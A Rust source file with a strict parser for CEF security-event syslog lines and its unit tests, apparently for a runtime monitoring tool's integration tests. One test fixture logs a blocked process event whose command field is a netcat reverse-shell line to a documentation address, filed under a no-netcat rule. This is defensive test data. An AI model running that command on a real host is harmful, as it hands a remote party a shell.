//! A strict parser of CEF (ArcSight Common Event Format, implementation
//! standard rev. 25-27) lines as a syslog receiver writes them to a file: one
//! message per line, `<PRI>` + syslog header + `CEF:Version|...|Severity|Extension`.
//!
//! Integration tests use it to check what tapwire sent (see
//! `cef-forwarder/MAPPING.md`). It is deliberately stricter than SIEM parsers:
//! anything the standard does not allow is an error, so that a formatting bug
//! in tapwire shows up as a failed parse instead of a silently odd value.
//!
//! What it accepts:
//!
//! - An optional PRI `<N>` at the very start of the line, `N` in `0..=191`,
//!   written in canonical decimal (no sign, no leading zeros except `<0>`,
//!   as RFC 5424 section 6.2.1 requires).
//! - Any syslog header text (kept raw), up to the first `CEF:`.
//! - Exactly seven header fields, each ended by an unescaped `|`. Header
//!   escapes are only `\\` and `\|`. Version is a canonical decimal integer;
//!   Severity is `0`..=`10` (canonical decimal) or one of `Unknown`, `Low`,
//!   `Medium`, `High`, `Very-High`. Other header fields may be empty.
//! - An extension that is empty or a sequence of `key=value` pairs separated
//!   by single spaces. Keys match `[A-Za-z0-9_][A-Za-z0-9_.,\[\]]*`. Every
//!   unescaped `=` must end a key that starts right after a space; the space
//!   before that key separates it from the previous value. Values may hold
//!   spaces and raw `|`, and are never trimmed. Extension escapes are only
//!   `\=`, `\\`, `\n` (LF) and `\r` (CR).
//!
//! The whole line must contain no raw CR or LF: the caller strips the line
//! terminator (`str::lines` does), and inside a message the standard only
//! allows them escaped (`\n`, `\r`) in extension values.

use std::fmt;

/// A parsed syslog line carrying CEF.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CefMessage {
    /// The syslog PRI from a leading `<N>`, if the line starts with one.
    pub pri: Option<u8>,
    /// Everything between the PRI (or the line start) and `CEF:`, raw, e.g.
    /// `"Nov 14 22:13:20 node-a "`.
    pub syslog_header: String,
    /// The `N` in `CEF:N`.
    pub version: u32,
    /// Device Vendor, unescaped.
    pub vendor: String,
    /// Device Product, unescaped.
    pub product: String,
    /// Device Version, unescaped.
    pub device_version: String,
    /// Device Event Class ID (signature id), unescaped.
    pub signature_id: String,
    /// Name, unescaped.
    pub name: String,
    /// Severity as written: `0`..=`10` or `Unknown`, `Low`, `Medium`,
    /// `High`, `Very-High`.
    pub severity: String,
    /// The extension's `key=value` pairs in the order written, values
    /// unescaped and untrimmed; a key may repeat.
    pub extension: Vec<(String, String)>,
}

impl CefMessage {
    /// The first value of `key` in the extension, if the key is present.
    pub fn get(&self, key: &str) -> Option<&str> {
        self.extension
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }
}

/// Why a line is not strict CEF, and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CefError {
    /// Byte offset into the line where the problem is.
    pub offset: usize,
    /// What is wrong.
    pub reason: String,
}

impl fmt::Display for CefError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid CEF at byte {}: {}", self.offset, self.reason)
    }
}

impl std::error::Error for CefError {}

fn error(offset: usize, reason: impl Into<String>) -> CefError {
    CefError {
        offset,
        reason: reason.into(),
    }
}

/// The words the standard allows as Severity besides `0`..=`10`.
const SEVERITY_WORDS: [&str; 5] = ["Unknown", "Low", "Medium", "High", "Very-High"];

/// Parses one line: an optional `<PRI>`, a syslog header, then CEF.
///
/// `line` must not contain its line terminator: strip a trailing LF or CRLF
/// first (`str::lines` does). A raw CR or LF anywhere in the line is an
/// error, so a terminator left in place is reported rather than kept as part
/// of the last value. Other trailing whitespace is part of the last value.
///
/// Error offsets are byte offsets into `line`.
pub fn parse_line(line: &str) -> Result<CefMessage, CefError> {
    if let Some(at) = line.find(['\r', '\n']) {
        return Err(error(
            at,
            "raw CR or LF in the line (strip the line terminator; inside a message \
             they must be escaped as \\r or \\n in extension values)",
        ));
    }
    let (pri, header_start) = parse_pri(line)?;
    let cef_at = line[header_start..]
        .find("CEF:")
        .map(|i| header_start + i)
        .ok_or_else(|| error(header_start, "no \"CEF:\" in the line"))?;
    let syslog_header = line[header_start..cef_at].to_owned();

    let (fields, extension_start) = parse_header(line, cef_at + "CEF:".len())?;
    let mut fields = fields.into_iter();
    let mut next = || fields.next().expect("parse_header returns seven fields");
    let (version_text, version_at) = next();
    let version = canonical_decimal(&version_text, u32::MAX).ok_or_else(|| {
        error(
            version_at,
            format!("CEF version {version_text:?} is not a decimal integer"),
        )
    })?;
    let (vendor, _) = next();
    let (product, _) = next();
    let (device_version, _) = next();
    let (signature_id, _) = next();
    let (name, _) = next();
    let (severity, severity_at) = next();
    if !SEVERITY_WORDS.contains(&severity.as_str()) && canonical_decimal(&severity, 10).is_none() {
        return Err(error(
            severity_at,
            format!(
                "severity {severity:?} is neither 0..=10 nor one of \
                 Unknown, Low, Medium, High, Very-High"
            ),
        ));
    }

    let extension = parse_extension(line, extension_start)?;
    Ok(CefMessage {
        pri,
        syslog_header,
        version,
        vendor,
        product,
        device_version,
        signature_id,
        name,
        severity,
        extension,
    })
}

/// A non-negative integer in canonical decimal (ASCII digits, no sign, no
/// leading zero unless it is `0`) that is at most `max`.
fn canonical_decimal(text: &str, max: u32) -> Option<u32> {
    let canonical = !text.is_empty()
        && text.bytes().all(|b| b.is_ascii_digit())
        && (text == "0" || !text.starts_with('0'));
    if !canonical {
        return None;
    }
    text.parse::<u32>().ok().filter(|v| *v <= max)
}

/// The PRI of a line starting with `<`, and where the syslog header starts.
fn parse_pri(line: &str) -> Result<(Option<u8>, usize), CefError> {
    let Some(rest) = line.strip_prefix('<') else {
        return Ok((None, 0));
    };
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    let close = 1 + digits;
    if line.as_bytes().get(close) != Some(&b'>') {
        return Err(error(close, "PRI: expected digits then '>' after '<'"));
    }
    let text = &line[1..close];
    let value = canonical_decimal(text, 191).ok_or_else(|| {
        error(
            1,
            format!("PRI {text:?} is not 0..=191 in canonical decimal"),
        )
    })?;
    let value = u8::try_from(value).expect("PRI is at most 191");
    Ok((Some(value), close + 1))
}

/// The seven unescaped header fields after `CEF:` with the byte offset each
/// starts at, and where the extension starts.
fn parse_header(line: &str, start: usize) -> Result<(Vec<(String, usize)>, usize), CefError> {
    let bytes = line.as_bytes();
    let mut fields = Vec::with_capacity(7);
    let mut field = String::new();
    let mut field_start = start;
    let mut copied = start;
    let mut i = start;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => match bytes.get(i + 1) {
                Some(&escaped @ (b'\\' | b'|')) => {
                    field.push_str(&line[copied..i]);
                    field.push(char::from(escaped));
                    i += 2;
                    copied = i;
                }
                Some(_) => {
                    return Err(error(
                        i,
                        format!(
                            "header escape \\{} is not allowed (only \\\\ and \\|)",
                            char_at(line, i + 1).escape_debug()
                        ),
                    ));
                }
                None => {
                    return Err(error(i, "lone backslash at the end of the CEF header"));
                }
            },
            b'|' => {
                field.push_str(&line[copied..i]);
                fields.push((std::mem::take(&mut field), field_start));
                i += 1;
                copied = i;
                field_start = i;
                if fields.len() == 7 {
                    return Ok((fields, i));
                }
            }
            _ => i += 1,
        }
    }
    Err(error(
        line.len(),
        format!(
            "CEF header has {} of the 7 '|'-terminated fields \
             (Version|Vendor|Product|Version|SignatureID|Name|Severity|)",
            fields.len()
        ),
    ))
}

/// The character starting at byte `at`, which must be a char boundary.
fn char_at(line: &str, at: usize) -> char {
    line[at..]
        .chars()
        .next()
        .expect("a character after the backslash")
}

fn is_key_start(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn is_key_char(b: u8) -> bool {
    is_key_start(b) || matches!(b, b'.' | b',' | b'[' | b']')
}

/// Whether `text` is a whole extension key.
fn is_key(text: &[u8]) -> bool {
    match text.split_first() {
        Some((first, rest)) => is_key_start(*first) && rest.iter().all(|b| is_key_char(*b)),
        None => false,
    }
}

/// The extension pairs from byte `start` to the end of the line.
fn parse_extension(line: &str, start: usize) -> Result<Vec<(String, String)>, CefError> {
    let bytes = line.as_bytes();
    let mut pairs = Vec::new();
    if start == bytes.len() {
        return Ok(pairs);
    }
    // The first key; later keys are checked where their '=' is found.
    let first_eq = line[start..]
        .find('=')
        .map(|i| start + i)
        .filter(|eq| is_key(&bytes[start..*eq]))
        .ok_or_else(|| {
            error(
                start,
                "the extension must start with key=value, \
                 key matching [A-Za-z0-9_][A-Za-z0-9_.,\\[\\]]*",
            )
        })?;
    let mut key_start = start;
    let mut eq = first_eq;
    loop {
        let key = &line[key_start..eq];
        let value_start = eq + 1;
        let mut last_space = None;
        let mut i = value_start;
        // The space that separates this value from the next key, if any.
        let separator = loop {
            match bytes.get(i) {
                None => break None,
                Some(b'\\') => match bytes.get(i + 1) {
                    Some(b'\\' | b'=' | b'n' | b'r') => i += 2,
                    Some(_) => {
                        return Err(error(
                            i,
                            format!(
                                "extension escape \\{} in the value of {key:?} is not allowed \
                                 (only \\=, \\\\, \\n, \\r)",
                                char_at(line, i + 1).escape_debug()
                            ),
                        ));
                    }
                    None => {
                        return Err(error(
                            i,
                            format!("lone backslash at the end of the value of {key:?}"),
                        ));
                    }
                },
                Some(b' ') => {
                    last_space = Some(i);
                    i += 1;
                }
                Some(b'=') => match last_space {
                    Some(space) if is_key(&bytes[space + 1..i]) => break Some((space, i)),
                    _ => {
                        return Err(error(
                            i,
                            format!(
                                "unescaped '=' in the value of {key:?} that does not end a key \
                                 after a space (write it as \\=)"
                            ),
                        ));
                    }
                },
                Some(_) => i += 1,
            }
        };
        let value_end = separator.map_or(bytes.len(), |(space, _)| space);
        pairs.push((
            key.to_owned(),
            unescape_value(&line[value_start..value_end]),
        ));
        match separator {
            Some((space, next_eq)) => {
                key_start = space + 1;
                eq = next_eq;
            }
            None => return Ok(pairs),
        }
    }
}

/// Unescapes an extension value whose escapes were already checked.
fn unescape_value(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('r') => out.push('\r'),
            Some(other) => out.push(other),
            None => unreachable!("escapes are checked before unescaping"),
        }
    }
    out
}

/// Every line of a CEF file (`tapwire run --cef-out FILE`), parsed strictly;
/// none when the file does not exist yet.
pub fn read_file(path: &std::path::Path) -> Vec<CefMessage> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| parse_line(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const EXAMPLE_A: &str = r"<166>Nov 14 22:13:20 node-a CEF:0|tapwire|tapwire|0.1.0|NT-004|Networking|3|rt=1700000000000 act=egress outcome=Other deviceDirection=1 source=web-1 src=10.1.0.7 spt=43512 dst=93.184.215.14 dpt=443 proto=TCP in=512 out=4096 cn3=250 cn3Label=Duration ms dpid=1234 flexString2=3f4e5d6c7b8a flexString2Label=Container ID cs1=prod-eu cs1Label=Cluster name cs2=node-a cs2Label=Node name cs7=10.0.0.11 cs7Label=Node IP cs3=shop cs3Label=Namespace name cs5=web-1 cs5Label=Pod name cs6=app cs6Label=Container name request=registry.example/app:1.2 fileHash=sha256:0123abcd dhost=example.com externalId=5b0e3c2a9d41f7e8061c4a3b2d9e8f70 dproc=curl";

    const EXAMPLE_B: &str = r"<164>Nov 14 22:13:20 node-a CEF:0|tapwire|tapwire|0.1.0|FPM-001|Process management|7|rt=1700000000000 act=exec outcome=Enforce source=web-1 dpid=4321 spid=4300 cn1=4321 cn1Label=New PID duid=0 flexString1=0 flexString1Label=EGID flexString2=3f4e5d6c7b8a flexString2Label=Container ID cs1=prod-eu cs1Label=Cluster name cs2=node-a cs2Label=Node name cs7=10.0.0.11 cs7Label=Node IP cs3=shop cs3Label=Namespace name cs5=web-1 cs5Label=Pod name cs6=app cs6Label=Container name request=registry.example/app:1.2 fileHash=sha256:0123abcd cat=shop/runtime-baseline/no-netcat externalId=c17a40d2e95b36f8a0d4e1b7c3f29a65 dproc=/usr/bin/nc cs4=nc -e /bin/sh 203.0.113.9 4444 cs4Label=Command";

    const EXAMPLE_C: &str = r"<164>Nov 14 22:13:20 node-a CEF:0|tapwire|tapwire|0.1.0|FFM-007|File management|7|rt=1700000000000 act=rename outcome=Audit source=web-1 dpid=77 spid=1 duid=0 flexString1=0 flexString1Label=EGID flexString2=3f4e5d6c7b8a flexString2Label=Container ID cs1=prod-eu cs1Label=Cluster name cs2=node-a cs2Label=Node name cs7=10.0.0.11 cs7Label=Node IP cs3=shop cs3Label=Namespace name cs5=web-1 cs5Label=Pod name cs6=app cs6Label=Container name request=registry.example/app:1.2 fileHash=sha256:0123abcd cat=shop/etc-immutable/no-etc-changes externalId=0f9d82b64e1c5a3790b2d6e4a8c1f35e dproc=/bin/mv oldFilePath=/etc/app/db\=prod.conf filePath=/etc/app/db\=prod.conf.bak cs4=mv /etc/app/db\=prod.conf /etc/app/db\=prod.conf.bak cs4Label=Command";

    /// Header escaping as MAPPING.md section 3 specifies it.
    fn escape_header(value: &str) -> String {
        value.replace('\\', r"\\").replace('|', r"\|")
    }

    /// Extension value escaping as MAPPING.md section 3 specifies it.
    fn escape_value(value: &str) -> String {
        value
            .replace('\\', r"\\")
            .replace('=', r"\=")
            .replace('\r', r"\r")
            .replace('\n', r"\n")
    }

    fn line_with_extension(extension: &str) -> String {
        format!("<134>Nov 14 22:13:20 host CEF:0|V|P|1.0|SIG-1|Name|5|{extension}")
    }

    fn parse(line: &str) -> CefMessage {
        parse_line(line).unwrap_or_else(|e| panic!("{e}\nline: {line}"))
    }

    fn parse_err(line: &str) -> CefError {
        match parse_line(line) {
            Ok(message) => panic!("expected an error, parsed {message:#?}\nline: {line}"),
            Err(e) => e,
        }
    }

    fn keys(message: &CefMessage) -> Vec<&str> {
        message.extension.iter().map(|(k, _)| k.as_str()).collect()
    }

    #[test]
    fn example_a_network_flow() {
        let m = parse(EXAMPLE_A);
        assert_eq!(m.pri, Some(166));
        assert_eq!(m.syslog_header, "Nov 14 22:13:20 node-a ");
        assert_eq!(m.version, 0);
        assert_eq!(m.vendor, "tapwire");
        assert_eq!(m.product, "tapwire");
        assert_eq!(m.device_version, "0.1.0");
        assert_eq!(m.signature_id, "NT-004");
        assert_eq!(m.name, "Networking");
        assert_eq!(m.severity, "3");
        assert_eq!(m.get("rt"), Some("1700000000000"));
        assert_eq!(m.get("act"), Some("egress"));
        assert_eq!(m.get("src"), Some("10.1.0.7"));
        assert_eq!(m.get("dpt"), Some("443"));
        assert_eq!(m.get("cn3Label"), Some("Duration ms"));
        assert_eq!(m.get("flexString2Label"), Some("Container ID"));
        assert_eq!(m.get("request"), Some("registry.example/app:1.2"));
        assert_eq!(m.get("dproc"), Some("curl"));
        assert_eq!(m.get("cs4"), None);
        assert_eq!(m.extension.len(), 34);
        assert_eq!(
            keys(&m)[..5],
            ["rt", "act", "outcome", "deviceDirection", "source"]
        );
        assert_eq!(keys(&m).last(), Some(&"dproc"));
    }

    #[test]
    fn example_b_process_exec() {
        let m = parse(EXAMPLE_B);
        assert_eq!(m.pri, Some(164));
        assert_eq!(m.syslog_header, "Nov 14 22:13:20 node-a ");
        assert_eq!(m.signature_id, "FPM-001");
        assert_eq!(m.name, "Process management");
        assert_eq!(m.severity, "7");
        assert_eq!(m.get("outcome"), Some("Enforce"));
        assert_eq!(m.get("cn1Label"), Some("New PID"));
        assert_eq!(m.get("cat"), Some("shop/runtime-baseline/no-netcat"));
        assert_eq!(m.get("dproc"), Some("/usr/bin/nc"));
        assert_eq!(m.get("cs4"), Some("nc -e /bin/sh 203.0.113.9 4444"));
        assert_eq!(m.get("cs4Label"), Some("Command"));
        assert_eq!(keys(&m).last(), Some(&"cs4Label"));
    }

    #[test]
    fn example_c_file_rename_unescapes_equals() {
        let m = parse(EXAMPLE_C);
        assert_eq!(m.pri, Some(164));
        assert_eq!(m.signature_id, "FFM-007");
        assert_eq!(m.name, "File management");
        assert_eq!(m.severity, "7");
        assert_eq!(m.get("act"), Some("rename"));
        assert_eq!(m.get("outcome"), Some("Audit"));
        assert_eq!(m.get("oldFilePath"), Some("/etc/app/db=prod.conf"));
        assert_eq!(m.get("filePath"), Some("/etc/app/db=prod.conf.bak"));
        assert_eq!(
            m.get("cs4"),
            Some("mv /etc/app/db=prod.conf /etc/app/db=prod.conf.bak")
        );
        assert_eq!(m.get("cs4Label"), Some("Command"));
        assert_eq!(
            keys(&m)[keys(&m).len() - 5..],
            ["dproc", "oldFilePath", "filePath", "cs4", "cs4Label"]
        );
    }

    #[test]
    fn mapping_escape_example() {
        // MAPPING.md section 3: `a|b=c\d` + LF is written `a|b\=c\\d\n`.
        let m = parse(&line_with_extension(r"msg=a|b\=c\\d\n"));
        assert_eq!(m.get("msg"), Some("a|b=c\\d\n"));
        assert_eq!(escape_value("a|b=c\\d\n"), r"a|b\=c\\d\n");
    }

    #[test]
    fn hostile_values_round_trip() {
        let values = [
            "a|b",
            "pipe at end|",
            "|",
            r"back\slash",
            r"\\",
            "\\",
            "x=y",
            "=",
            "==",
            "line\nfeed",
            "carriage\rreturn",
            "\r\n",
            "Zürich ☃",
            "spaces  in   the middle",
            " leading space",
            "looks like key=value but escaped",
            "cs4=nested",
            "tab\tand\u{7f}control",
        ];
        let extension = values
            .iter()
            .enumerate()
            .map(|(i, v)| format!("cs{i}={}", escape_value(v)))
            .collect::<Vec<_>>()
            .join(" ");
        let m = parse(&line_with_extension(&extension));
        assert_eq!(m.extension.len(), values.len());
        for (i, value) in values.iter().enumerate() {
            assert_eq!(m.extension[i].0, format!("cs{i}"));
            assert_eq!(m.extension[i].1, *value, "value {i}");
        }
    }

    #[test]
    fn long_hostile_value() {
        let pattern = "a b=c\\d|e\nf\rZürich ☃ ";
        let value: String = pattern.chars().cycle().take(10_000).collect();
        assert_eq!(value.chars().count(), 10_000);
        let line = line_with_extension(&format!("cs4={} cs4Label=Command", escape_value(&value)));
        let m = parse(&line);
        assert_eq!(m.get("cs4"), Some(value.as_str()));
        assert_eq!(m.get("cs4Label"), Some("Command"));
    }

    #[test]
    fn value_spaces_without_equals_stay_in_the_value() {
        let m = parse(&line_with_extension("msg=hello world  foo bar=baz qux"));
        assert_eq!(
            m.extension,
            vec![
                ("msg".to_owned(), "hello world  foo".to_owned()),
                ("bar".to_owned(), "baz qux".to_owned()),
            ]
        );
    }

    #[test]
    fn separator_is_the_last_space_before_the_key() {
        // Two spaces before a key: the first stays in the value.
        let m = parse(&line_with_extension("a=x  b=y"));
        assert_eq!(m.get("a"), Some("x "));
        assert_eq!(m.get("b"), Some("y"));
    }

    #[test]
    fn trailing_whitespace_is_kept() {
        let m = parse(&line_with_extension("a=1 b=two  \t "));
        assert_eq!(m.get("b"), Some("two  \t "));
    }

    #[test]
    fn empty_values_and_empty_extension() {
        let m = parse(&line_with_extension("a= b=1 c="));
        assert_eq!(m.get("a"), Some(""));
        assert_eq!(m.get("b"), Some("1"));
        assert_eq!(m.get("c"), Some(""));
        let m = parse(&line_with_extension(""));
        assert!(m.extension.is_empty());
        assert_eq!(m.severity, "5");
    }

    #[test]
    fn duplicate_keys_are_kept_in_order() {
        let m = parse(&line_with_extension("k=1 other=x k=2"));
        assert_eq!(keys(&m), ["k", "other", "k"]);
        assert_eq!(m.get("k"), Some("1"));
        assert_eq!(m.extension[2].1, "2");
    }

    #[test]
    fn key_characters() {
        let m = parse(&line_with_extension(
            "_a=1 9b=2 ad.field[0],x=3 c6a2Label=Source IPv6 Address",
        ));
        assert_eq!(keys(&m), ["_a", "9b", "ad.field[0],x", "c6a2Label"]);
        assert_eq!(m.get("c6a2Label"), Some("Source IPv6 Address"));
    }

    #[test]
    fn header_escapes() {
        let vendor = r"Ve|nd\or";
        let name = r"a \| b";
        let line = format!(
            "<0>CEF:0|{}|Prod|1|S\\|1|{}|Very-High|x=1",
            escape_header(vendor),
            escape_header(name)
        );
        let m = parse(&line);
        assert_eq!(m.pri, Some(0));
        assert_eq!(m.syslog_header, "");
        assert_eq!(m.vendor, vendor);
        assert_eq!(m.signature_id, "S|1");
        assert_eq!(m.name, name);
        assert_eq!(m.severity, "Very-High");
        assert_eq!(m.get("x"), Some("1"));
        // '=' needs no escape in the header; non-ASCII passes.
        let m = parse("CEF:0|a=b|Zürich ☃|1|S|N|0|");
        assert_eq!(m.vendor, "a=b");
        assert_eq!(m.product, "Zürich ☃");
    }

    #[test]
    fn no_pri_and_rfc5424_header() {
        let m = parse("Nov 14 22:13:20 node-a CEF:0|V|P|1|S|N|Low|a=b");
        assert_eq!(m.pri, None);
        assert_eq!(m.syslog_header, "Nov 14 22:13:20 node-a ");
        let m = parse("<164>1 2023-11-14T22:13:20.000Z node-a tapwire - - - CEF:0|V|P|1|S|N|10|");
        assert_eq!(m.pri, Some(164));
        assert_eq!(
            m.syslog_header,
            "1 2023-11-14T22:13:20.000Z node-a tapwire - - - "
        );
        assert_eq!(m.severity, "10");
        let m = parse("CEF:1|V|P|1|S|N|Unknown|");
        assert_eq!(m.version, 1);
        assert_eq!(m.pri, None);
    }

    #[test]
    fn raw_pipe_in_extension_is_a_value_character() {
        let m = parse(&line_with_extension("a=x|y|z b=|"));
        assert_eq!(m.get("a"), Some("x|y|z"));
        assert_eq!(m.get("b"), Some("|"));
    }

    #[test]
    fn severities() {
        for ok in [
            "0",
            "1",
            "9",
            "10",
            "Unknown",
            "Low",
            "Medium",
            "High",
            "Very-High",
        ] {
            let m = parse(&format!("CEF:0|V|P|1|S|N|{ok}|"));
            assert_eq!(m.severity, ok);
        }
        for bad in [
            "11", "-1", "07", "", " 3", "3 ", "high", "VeryHigh", "HIGH", "3.0",
        ] {
            let line = format!("CEF:0|V|P|1|S|N|{bad}|");
            let e = parse_err(&line);
            assert_eq!(e.offset, "CEF:0|V|P|1|S|N|".len(), "{bad:?}: {e}");
            assert!(e.reason.contains("severity"), "{e}");
        }
    }

    #[test]
    fn error_lone_backslash_in_header() {
        let line = r"<13>host CEF:0|Ven\dor|P|1|S|N|3|";
        let e = parse_err(line);
        assert_eq!(e.offset, line.find('\\').expect("backslash"));
        assert!(e.reason.contains("header escape"), "{e}");
        // At the very end, inside an unfinished header.
        let line = r"CEF:0|V|P|1|S|N\";
        let e = parse_err(line);
        assert_eq!(e.offset, line.len() - 1);
        assert!(e.reason.contains("lone backslash"), "{e}");
    }

    #[test]
    fn error_equals_escape_in_header() {
        let line = r"CEF:0|V|P|1|S|a\=b|3|";
        let e = parse_err(line);
        assert_eq!(e.offset, line.find('\\').expect("backslash"));
        assert!(e.reason.contains(r"\="), "{e}");
        // Extension escapes other than \\ are all foreign to the header.
        for bad in [r"\n", r"\r", r"\t", r"\ "] {
            let line = format!("CEF:0|V|P|1|S|N{bad}|3|");
            assert_eq!(parse_err(&line).offset, 15, "{bad}");
        }
    }

    #[test]
    fn error_unknown_extension_escape() {
        let line = line_with_extension(r"a=1 msg=tab\there");
        let e = parse_err(&line);
        assert_eq!(e.offset, line.find('\\').expect("backslash"));
        assert!(e.reason.contains(r"\t"), "{e}");
        assert!(e.reason.contains("msg"), "{e}");
        // `|` is not escaped in the extension, so `\|` is not an escape there.
        let line = line_with_extension(r"msg=a\|b");
        assert_eq!(parse_err(&line).offset, line.find('\\').expect("backslash"));
        // Nor is a non-ASCII character.
        let line = line_with_extension(r"msg=a\☃b");
        let e = parse_err(&line);
        assert_eq!(e.offset, line.find('\\').expect("backslash"));
        assert!(e.reason.contains('☃'), "{e}");
    }

    #[test]
    fn error_trailing_lone_backslash_in_extension() {
        let line = line_with_extension(r"a=1 b=ends with\");
        let e = parse_err(&line);
        assert_eq!(e.offset, line.len() - 1);
        assert!(e.reason.contains("lone backslash"), "{e}");
        // An escaped backslash at the end is fine.
        let m = parse(&line_with_extension(r"a=1 b=ends with\\"));
        assert_eq!(m.get("b"), Some("ends with\\"));
    }

    #[test]
    fn error_unescaped_equals_in_value() {
        for (extension, bad_eq) in [
            // No space before it.
            ("a=b=c", 3),
            // Escaped backslash then a real '='.
            (r"a=x\\=y", 5),
            // After a space, but what precedes it is no key.
            ("cs4=mv /etc/db=prod.conf", 14),
            (r"a=x y\\z=w", 8),
            (r"a=x b\=c=d", 8),
            ("a=x .b=c", 6),
            ("a=x Zü=c", 7),
            // Nothing between the space and '='.
            ("a=x =y", 4),
            ("a=1 b==c", 6),
        ] {
            let line = line_with_extension(extension);
            let e = parse_err(&line);
            let ext_at = line.len() - extension.len();
            assert_eq!(e.offset, ext_at + bad_eq, "{extension}: {e}");
            assert!(e.reason.contains("unescaped '='"), "{e}");
        }
    }

    #[test]
    fn error_bad_extension_start() {
        for extension in [
            " a=1",
            "hello a=1",
            "a",
            "=1",
            ".a=1",
            "a b=1",
            "ü=1",
            "a\t=1",
        ] {
            let line = line_with_extension(extension);
            let e = parse_err(&line);
            assert_eq!(e.offset, line.len() - extension.len(), "{extension:?}: {e}");
            assert!(e.reason.contains("must start with key=value"), "{e}");
        }
    }

    #[test]
    fn error_missing_header_fields() {
        for (line, found) in [
            ("<13>host CEF:0|V|P|1|S|N|3", 6),
            ("CEF:0|V|P|1|S|N", 5),
            (r"CEF:0|V|P|1|S|N|3\|a=b", 6),
            ("CEF:0", 0),
            ("CEF:", 0),
        ] {
            let e = parse_err(line);
            assert_eq!(e.offset, line.len(), "{line}: {e}");
            assert!(e.reason.contains(&format!("{found} of the 7")), "{e}");
        }
    }

    #[test]
    fn error_bad_version() {
        for version in ["", "x", "-0", "00", "0.1", " 0", "99999999999"] {
            let line = format!("<13>h CEF:{version}|V|P|1|S|N|3|");
            let e = parse_err(&line);
            assert_eq!(e.offset, "<13>h CEF:".len(), "{version:?}: {e}");
            assert!(e.reason.contains("version"), "{e}");
        }
    }

    #[test]
    fn error_bad_pri() {
        for (line, offset) in [
            ("<192>host CEF:0|V|P|1|S|N|3|", 1),
            ("<999>host CEF:0|V|P|1|S|N|3|", 1),
            ("<1000>host CEF:0|V|P|1|S|N|3|", 1),
            ("<013>host CEF:0|V|P|1|S|N|3|", 1),
            ("<>host CEF:0|V|P|1|S|N|3|", 1),
            ("<abc>host CEF:0|V|P|1|S|N|3|", 1),
            ("<-1>host CEF:0|V|P|1|S|N|3|", 1),
            ("<13 host CEF:0|V|P|1|S|N|3|", 3),
            ("<13", 3),
        ] {
            let e = parse_err(line);
            assert_eq!(e.offset, offset, "{line}: {e}");
            assert!(e.reason.contains("PRI"), "{e}");
        }
        assert_eq!(parse("<191>CEF:0|V|P|1|S|N|3|").pri, Some(191));
    }

    #[test]
    fn error_no_cef() {
        let e = parse_err("<13>Nov 14 22:13:20 host just a log line");
        assert_eq!(e.offset, 4);
        let e = parse_err("");
        assert_eq!(e.offset, 0);
        // Lowercase is not the marker.
        assert!(parse_line("cef:0|V|P|1|S|N|3|").is_err());
    }

    #[test]
    fn error_raw_line_terminators() {
        let line = format!("{EXAMPLE_B}\n");
        let e = parse_err(&line);
        assert_eq!(e.offset, EXAMPLE_B.len());
        let line = format!("{EXAMPLE_B}\r\n");
        assert_eq!(parse_err(&line).offset, EXAMPLE_B.len());
        let line = line_with_extension("msg=two\nlines");
        assert_eq!(parse_err(&line).offset, line.find('\n').expect("LF"));
    }

    #[test]
    fn error_display() {
        let e = parse_err("CEF:0|V|P|1|S|N|3|a=b=c");
        assert_eq!(e.offset, 21);
        let text = e.to_string();
        assert!(text.starts_with("invalid CEF at byte 21: "), "{text}");
        let boxed: Box<dyn std::error::Error> = Box::new(e);
        assert!(boxed.to_string().contains("unescaped"));
    }
}
